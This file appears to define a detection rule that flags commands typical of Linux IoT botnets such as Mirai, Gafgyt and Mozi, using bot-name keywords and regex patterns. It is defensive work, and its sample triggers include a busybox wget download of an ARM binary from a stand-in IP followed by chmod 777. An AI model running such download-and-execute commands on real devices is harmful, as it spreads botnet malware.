import { commandRule } from "../rule.js";

/** Commands that Mirai and its kin run when they take a device. */
export const linuxBotBehaviour = commandRule({
  id: "linux-bot-behaviour",
  alertType: "IoT_CommonBots",
  name: "Behavior similar to common Linux bots detected",
  severity: "Medium",
  about: "Commands that Mirai and its kin run when they take a device.",
  tactics: ["Execution"],
  techniques: ["T1059.004", "T1105"],
  witness: [
    "busybox",
    "mirai",
    "tsunami",
    "kaiten",
    "gafgyt",
    "bashlite",
    "lizkebab",
    "qbot",
    "mozi",
    "/bin/busybox",
  ],
  patterns: [
    /\/bin\/busybox\s+[A-Z]{4,10}\s*$/i,
    /\b(?:mirai|bashlite|gafgyt|kaiten|tsunami|lizkebab|qbot|mozi)\b(?:\.(?:arm\d?|mips|mpsl|x86|sh4))?/i,
    /\bbusybox\s+(?:wget|tftp)\b.*(?:;|&&).*\bchmod\s+(?:777|\+x)\b.*/i,
  ],
  did: "behaves like a known bot",
  because: "bots run this when they take a device",
  fires: [
    "/bin/busybox MIRAI",
    "sh -c /bin/busybox wget http://203.0.113.9/m.arm7; chmod 777 m.arm7",
    "./mozi.m mozi.mips",
  ],
  silent: ["/bin/busybox sh", "busybox ls", "busybox wget http://updates.example.net/fw.bin"],
});
